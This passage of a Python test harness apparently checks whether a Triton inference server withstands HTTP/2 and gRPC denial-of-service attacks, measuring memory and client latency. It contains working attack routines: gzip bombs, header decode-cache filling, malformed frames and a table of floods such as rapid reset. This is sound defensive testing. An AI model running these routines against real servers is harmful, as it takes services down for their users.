            conns.append(RawConnection.open(address, deadline=started + seconds))
        filler = max(1024, min(block_bytes, _header_list_limit(conns[0]) - 1024))
        body = grpc_message(b"")
        sent = 0
        for conn in conns:
            size = _frame_size(conn)
            for i in range(blocks):
                if time.monotonic() >= conn.deadline:
                    break
                sid = 2 * i + 1
                value = f"{i:08d}{id(conn):016x}".encode() + b"v" * (filler - 24)
                if not conn.send(header_frames(sid, request_block(SERVER_LIVE, (b"x-fill", value)), size)
                                 + data_frames(sid, body, size)):
                    break
                sent += 1
        # Every call answered (or the connection ended): the blocks have all been decoded.
        for conn in conns:
            conn.wait_for(lambda c: sum(c.statuses.values()) + sum(c.rst_streams.values()) >= blocks,
                          started + seconds)
        answered = sum(sum(c.statuses.values()) for c in conns)
        return _outcome("decode_cache_fill", started, conns, 2 * sent, None,
                        f"{sent:,} distinct {filler / 1024:.0f} KiB header blocks on {len(conns)} connections; "
                        f"{answered:,} answered", all_must_close=False)
    finally:
        for conn in conns:
            conn.close()


def empty_header_name(address: tuple[str, int], *, seconds: float = 3.0) -> AttackOutcome:
    """A request whose header block has a field with an empty name (malformed, RFC 9113 8.2.1).
    The limit: that block. The server should reset the stream (or end the connection with GOAWAY)
    at once; dropping the connection without either is a failure."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        size = _frame_size(conn)
        block = request_block(SERVER_LIVE, (b"", b"x"))
        conn.send(header_frames(1, block, size) + data_frames(1, grpc_message(b""), size))
        limit_at = time.monotonic()
        conn.wait_for(lambda c: 1 in c.reset_stream_ids or c.statuses or c.closed is not None,
                      min(started + seconds, limit_at + CLOSE_WITHIN_S + 0.5))
        return _outcome("empty_header_name", started, [conn], 2, limit_at,
                        "answered: " + (f"RST_STREAM {error_name(min(conn.rst_streams))}" if conn.rst_streams else
                                        f"grpc-status {dict(conn.statuses)}" if conn.statuses else
                                        f"GOAWAY {error_name(conn.goaway_code)}" if conn.goaway_code is not None else
                                        f"connection dropped ({conn.closed}) without GOAWAY" if conn.closed else
                                        "nothing"))
    finally:
        conn.close()


@functools.cache
def _gzip_zeros(size: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    parts = [compressor.compress(chunk) for _ in range(size >> 20)]
    parts.append(compressor.compress(bytes(size & ((1 << 20) - 1))))
    parts.append(compressor.flush())
    return b"".join(parts)


def gzip_bomb(address: tuple[str, int], *, streams: int = 2, inflated_bytes: int = 255 << 20,
              seconds: float = 12.0) -> AttackOutcome:
    """``streams`` ModelInfer calls with ``grpc-encoding: gzip``, each one message of about
    250 KiB that inflates to ``inflated_bytes`` of zeros (under the default 256 MiB message limit).
    No connection limit: each call should be answered with an error without the server holding
    the inflated bytes."""
    compressed = grpc_message(_gzip_zeros(inflated_bytes), compressed=True)
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        block = request_block(MODEL_INFER, (b"grpc-encoding", b"gzip"))
        size = _frame_size(conn)
        sent = 0
        for i in range(streams):
            sid = 2 * i + 1
            if not conn.send(header_frames(sid, block, size) + data_frames(sid, compressed, size)):
                break
            sent += 1
        conn.wait_for(lambda c: sum(c.statuses.values()) + sum(c.rst_streams.values()) >= sent,
                      started + seconds)
        return _outcome("gzip_bomb", started, [conn], sent, None,
                        f"{sent} messages of {len(compressed) / 1024:.0f} KiB inflating to "
                        f"{inflated_bytes / 2**20:.0f} MiB each; grpc-status {dict(conn.statuses)}")
    finally:
        conn.close()


def malformed_grpc(address: tuple[str, int], *, rounds: int = 100, seconds: float = 8.0) -> AttackOutcome:
    """Not in the table: well-formed HTTP/2 carrying broken gRPC. Each round makes four ModelInfer
    calls: a message prefix announcing 4 GiB, bytes that are no ModelInferRequest, a compressed
    flag without grpc-encoding, and a request that ends inside its message. Every call should be
    answered with an error status, on a connection that stays open."""
    bodies = (struct.pack(">BI", 0, 0xFFFF_FFFF) + b"x" * 16, grpc_message(b"\xff\xff\xff\xff"),
              grpc_message(b"abc", compressed=True), grpc_message(simple_request())[:-3])
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        block = request_block(MODEL_INFER)
        size = _frame_size(conn)
        calls = 0
        streams = conn.server.max_concurrent_streams or 2**31
        for _ in range(rounds):
            # within the server's stream limit: a refused stream is no answer to broken gRPC
            conn.wait_for(lambda c: calls + len(bodies) - sum(c.statuses.values()) <= streams, conn.deadline)
            ids = range(2 * calls + 1, 2 * (calls + len(bodies)) + 1, 2)
            if time.monotonic() >= conn.deadline or not conn.send(b"".join(
                    frame(HEADERS, END_HEADERS, sid, block) + data_frames(sid, body, size)
                    for sid, body in zip(ids, bodies))):
                break
            calls += len(bodies)
        conn.wait_for(lambda c: sum(c.statuses.values()) >= calls, started + seconds)
        errors = sum(n for status, n in conn.statuses.items() if status != "0")
        return _outcome("malformed_grpc", started, [conn], 2 * calls, None,
                        f"{calls:,} broken calls, {errors:,} answered with an error: "
                        f"grpc-status {dict(conn.statuses)}", calls=calls)
    finally:
        conn.close()


@dataclass(frozen=True)
class Attack:
    """One row of issue 14's table. ``close_goal``: "close" (the attacking connection must be
    closed within CLOSE_WITHIN_S of crossing the limit), "reject" (the offending stream reset or
    the connection ended with GOAWAY, within CLOSE_WITHIN_S), "answer" (every call answered with
    an error status, the connection kept open), or None (not judged: no limit is crossed; memory
    and the other clients are)."""
    name: str
    run: Callable[..., AttackOutcome]      # run(address, **bounds); the defaults are the probe's
    close_goal: Literal["close", "reject", "answer"] | None
    table_row: str


ATTACKS: dict[str, Attack] = {a.name: a for a in (
    Attack("continuation_flood", continuation_flood, "close",
           "CONTINUATION flood: HEADERS without END_HEADERS, then 2,800 x 1 MiB CONTINUATION"),
    Attack("ping_flood", ping_flood, "close", "PING flood, client never reads: 10M PINGs"),
    Attack("settings_flood", settings_flood, "close", "SETTINGS flood, 10M frames"),
    Attack("settings_window_churn", settings_window_churn, "close",
           "one SETTINGS frame with 100,000 INITIAL_WINDOW_SIZE entries, 4,096 open streams"),
    Attack("rapid_reset", rapid_reset, "close", "rapid reset: HEADERS + DATA + RST_STREAM, 400,000 streams"),
    Attack("preface_only", preface_only, "close", "2,000 connections that send only the 24-byte preface"),
    Attack("slow_reader", slow_reader, None, "a client that opens its window and never reads, 73,280 requests"),
    Attack("huffman_header", huffman_header, "close", "one Huffman-coded header value of 100 MiB"),
    Attack("table_size_updates", table_size_updates, "close",
           "header blocks of repeated table-size updates, 60 x 1 MiB"),
    Attack("decode_cache_fill", decode_cache_fill, None, "10 connections filling the header decode cache"),
    Attack("empty_header_name", empty_header_name, "reject", "a header with an empty name"),
    Attack("gzip_bomb", gzip_bomb, None, "6 streams of gzip that inflate to 255 MiB each"),
    Attack("malformed_grpc", malformed_grpc, "answer",
           "(not in the table) broken gRPC framing and protobuf on sound HTTP/2"),
)}


# ---- measuring a server under attack -------------------------------------------------------------
def rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for process {pid}")


class RssSampler:
    """Samples a process's RSS every ``interval`` seconds in a thread: (monotonic, MB) pairs."""

    def __init__(self, pid: int, interval: float = 0.05) -> None:
        self.pid = pid
        self.interval = interval
        self.samples: list[tuple[float, float]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="rss-sampler", daemon=True)

    def __enter__(self) -> "RssSampler":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(2.0)

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                self.samples.append((time.monotonic(), rss_mb(self.pid)))
            except (OSError, RuntimeError):
                return          # the process is gone
            self._stop.wait(self.interval)

    def now(self) -> float:
        return rss_mb(self.pid)

    def peak(self, since: float, until: float) -> float:
        window = [mb for t, mb in self.samples if since <= t <= until]
        return max(window) if window else self.now()


def _legit_loop(url: str, interval: float, timeout: float, stop, results) -> None:
    """A well-behaved client (runs in its own process): ``simple`` inferences with the real Triton
    client, one every ``interval`` seconds on a fixed schedule, each sent at its time whether or not
    the earlier ones were answered (open loop), so a stall shows in every request scheduled during
    it. Reports (scheduled, latency, error) per request; one still unanswered ``timeout`` after the
    schedule stopped is an error."""
    import numpy as np
    import tritonclient.grpc as grpcclient
    client = grpcclient.InferenceServerClient(url)
    inputs = []
    for name in ("INPUT0", "INPUT1"):
        tensor = grpcclient.InferInput(name, [1, 16], "INT32")
        tensor.set_data_from_numpy(np.arange(16, dtype=np.int32).reshape(1, 16))
        inputs.append(tensor)
    client.infer("simple", inputs, client_timeout=timeout)     # connected and warm before the clock starts
    done: dict[float, tuple[float, float, str]] = {}
    lock = threading.Lock()
    all_answered = threading.Event()
    sent: list[float] = []

    def answered(scheduled: float, result, error) -> None:
        latency = time.monotonic() - scheduled
        message = "" if error is None else (str(error).splitlines() or [type(error).__name__])[0][:160]
        with lock:
            done[scheduled] = (scheduled, latency, message)
            if stop.is_set() and len(done) == len(sent):
                all_answered.set()

    start = time.monotonic()
    results.put(start)
    k = 0
    while len(sent) < 100_000:
        scheduled = start + k * interval
        k += 1
        wait = scheduled - time.monotonic()
        if (wait > 0 and stop.wait(wait)) or stop.is_set():
            break
        with lock:
            sent.append(scheduled)
        client.async_infer("simple", inputs, functools.partial(answered, scheduled), client_timeout=timeout)
    with lock:
        if len(done) == len(sent):
            all_answered.set()
    all_answered.wait(timeout + 1.0)
    with lock:
        samples = [done.get(t, (t, time.monotonic() - t, "no answer")) for t in sent]
    client.close()
    results.put(samples)


class LegitClient:
    """The well-behaved client of :func:`_legit_loop`, in a spawned process."""

    def __init__(self, url: str, interval: float = 0.01, timeout: float = 5.0) -> None:
        context = multiprocessing.get_context("spawn")
        self._stop = context.Event()
        self._results = context.Queue()
        self._process = context.Process(target=_legit_loop, args=(url, interval, timeout, self._stop, self._results),
                                        daemon=True)
        self.samples: list[tuple[float, float, str]] = []

    def __enter__(self) -> "LegitClient":
        self._process.start()
        deadline = time.monotonic() + 60
        while True:                         # until its schedule has started
            try:
                self._results.get(timeout=0.5)
                return self
            except queue.Empty:
                if not self._process.is_alive() or time.monotonic() > deadline:
                    self._process.kill()
                    raise RuntimeError(f"the well-behaved client did not start (exit code "
                                       f"{self._process.exitcode})") from None

    def __exit__(self, *exc) -> None:
        self._stop.set()
        try:
            self.samples = self._results.get(timeout=30)
        finally:
            self._process.join(5)
            if self._process.is_alive():
                self._process.kill()
                self._process.join()

    def window(self, since: float, until: float) -> list[tuple[float, float, str]]:
        return [s for s in self.samples if since <= s[0] <= until]


def p99(latencies: list[float]) -> float:
    if not latencies:
        return math.nan
    ordered = sorted(latencies)
    return ordered[max(0, math.ceil(0.99 * len(ordered)) - 1)]


@dataclass(frozen=True)
class Measurement:
    outcome: AttackOutcome
    close_goal: str | None
    rss_before_mb: float
    rss_peak_growth_mb: float
    rss_after_growth_mb: float
    quiet_p99_ms: float
    attack_p99_ms: float
    legit_requests: int                 # the well-behaved client's requests scheduled during the attack
    legit_failures: int
    legit_errors: tuple[str, ...] = ()


@dataclass(frozen=True)
class Verdict:
    rss: bool
    close: bool | None          # None: not judged for this attack
    legit: bool

    @property
    def withstood(self) -> bool:
        return self.rss and self.close is not False and self.legit


ATTACKER_NICE = 10     # the attack's threads run at this nice value (see run_niced)


def run_niced(fn: Callable[..., AttackOutcome], *args, **kwargs) -> AttackOutcome:
    """``fn(*args, **kwargs)`` in a thread of its own at nice ATTACKER_NICE (Linux: a thread's
    nice value is its own, and the threads it starts inherit it). On loopback the attacker's CPU
    is the worker's host's, which a remote attacker's is not: at the same priority, an attacker
    that sends as fast as one core allows takes that core from the worker and the well-behaved
    client, and the client's p99 measures the attacker's process as much as the worker. Niced,
    it still gets every cycle the other two leave."""
    result: list = []

    def target() -> None:
        try:
            os.setpriority(os.PRIO_PROCESS, 0, ATTACKER_NICE)
        except (AttributeError, OSError):
            pass                # not Linux, or not allowed: the attack runs at its usual priority
        try:
            result.append(fn(*args, **kwargs))
        except BaseException as exc:
            result.append(exc)

    thread = threading.Thread(target=target, name="attacker")
    thread.start()
    thread.join()
    if isinstance(result[0], BaseException):
        raise result[0]
    return result[0]


def warm_models(url: str) -> None:
    """Serve ``mlp`` once at each compiled size before the measurement: a model's first request
    copies its weights to the device and runs its executables for the first time (20 ms of the
    dispatch loop here), which the well-behaved client would otherwise count against the attack
    that happened to send it."""
    import numpy as np
    import tritonclient.grpc as grpcclient
    with grpcclient.InferenceServerClient(url) as client:
        for batch in (1, 8):
            tensor = grpcclient.InferInput("input", [batch, 512], "FP32")
            tensor.set_data_from_numpy(np.full((batch, 512), 0.25, np.float32))
            client.infer("mlp", [tensor], client_timeout=30)


def measure(attack: Attack, address: tuple[str, int], pid: int, *, quiet_s: float = 3.0,
            after_s: float = 3.0, **bounds) -> Measurement:
    """Run ``attack`` (with ``bounds`` overriding its defaults) against the server at ``address``
    whose process is ``pid``, with the well-behaved client running throughout."""
    url = f"{address[0]}:{address[1]}"
    warm_models(url)
    with RssSampler(pid) as rss, LegitClient(url) as legit:
        time.sleep(WARM_UP_S)
        quiet_start = time.monotonic()
        time.sleep(quiet_s)
        before = rss.now()
        attack_start = time.monotonic()
        outcome = run_niced(attack.run, address, **bounds)
        attack_end = time.monotonic()
        peak = rss.peak(attack_start, attack_end)
        # The client is judged over the attack and at least MIN_WINDOW_S from its start (an
        # attack of one frame is over at once; what it does to the server may not be).
        window_end = max(attack_end, attack_start + MIN_WINDOW_S)
        # After: RSS should come back; give it up to after_s.
        settle_until = attack_end + after_s
        after = rss.now()
        while (after - before > RSS_RETURN_MB and time.monotonic() < settle_until) or time.monotonic() < window_end:
            time.sleep(0.1)
            after = rss.now()
    # Quiet: scheduled and answered before the attack started.
    quiet = [s[1] for s in legit.window(quiet_start, attack_start) if not s[2] and s[0] + s[1] < attack_start]
    during = legit.window(attack_start, window_end)
    failures = [s[2] for s in during if s[2]]
    return Measurement(
        outcome=outcome, close_goal=attack.close_goal, rss_before_mb=round(before, 1),
        rss_peak_growth_mb=round(max(peak, after) - before, 1), rss_after_growth_mb=round(after - before, 1),
        quiet_p99_ms=round(p99(quiet) * 1000, 2),
        attack_p99_ms=round(p99([s[1] for s in during]) * 1000, 2),
        legit_requests=len(during), legit_failures=len(failures),
        legit_errors=tuple(dict.fromkeys(failures))[:3])


def judge(m: Measurement) -> Verdict:
    """The issue's three goals: RSS grows by at most RSS_BUDGET_MB and returns to within
    RSS_RETURN_MB; the attacking connection is closed (or, for "reject", the stream reset or the
    connection sent GOAWAY) within CLOSE_WITHIN_S of crossing the limit (for "answer": every call
    answered with an error status on a connection left open); the well-behaved client
    had no failure and a p99 within P99_FACTOR of its quiet p99."""
    o = m.outcome
    rss = m.rss_peak_growth_mb <= RSS_BUDGET_MB and m.rss_after_growth_mb <= RSS_RETURN_MB
    if m.close_goal == "close":
        close = o.closed is not None and o.close_delay is not None and o.close_delay <= CLOSE_WITHIN_S
    elif m.close_goal == "reject":
        limit = o.limit_after or 0.0
        answered = [t for t in (o.first_rst_after, o.closed_after if o.goaway_code is not None else None)
                    if t is not None]
        close = bool(answered) and min(answered) - limit <= CLOSE_WITHIN_S
    elif m.close_goal == "answer":
        errors = sum(n for status, n in o.statuses if status != "0")
        close = o.closed is None and o.calls > 0 and errors == o.calls
    else:
        close = None
    legit = (m.legit_failures == 0 and m.legit_requests > 0 and not math.isnan(m.quiet_p99_ms)
             and m.attack_p99_ms <= P99_FACTOR * m.quiet_p99_ms)
    return Verdict(rss=rss, close=close, legit=legit)
